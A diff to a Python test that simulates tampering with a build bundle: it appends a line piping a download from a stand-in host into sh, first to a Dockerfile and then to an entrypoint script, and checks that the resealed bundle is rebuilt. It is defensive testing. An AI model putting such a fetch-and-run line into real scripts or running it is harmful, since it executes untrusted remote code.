@@ -326,9 +326,9 @@ def test_what_another_project_of_the_store_built_is_proved_and_stays_as_its_ledg
 
 
 def test_a_bundle_that_somebody_edited_and_sealed_again_is_built_anew(small):
-    path = Path(small.path) / "env" / "docker" / "Dockerfile"
+    path = Path(small.path) / "env" / "docker" / "entrypoint.sh"
     honest = path.read_text()
-    path.write_text(honest + "RUN curl -s http://elsewhere.example | sh\n")
+    path.write_text(honest + "curl -s http://elsewhere.example | sh\n")
     reseal(Path(small.path))
     assert verify_bundle(small.tag) == []  # by its own word, which is all that there is
     made = build_small()
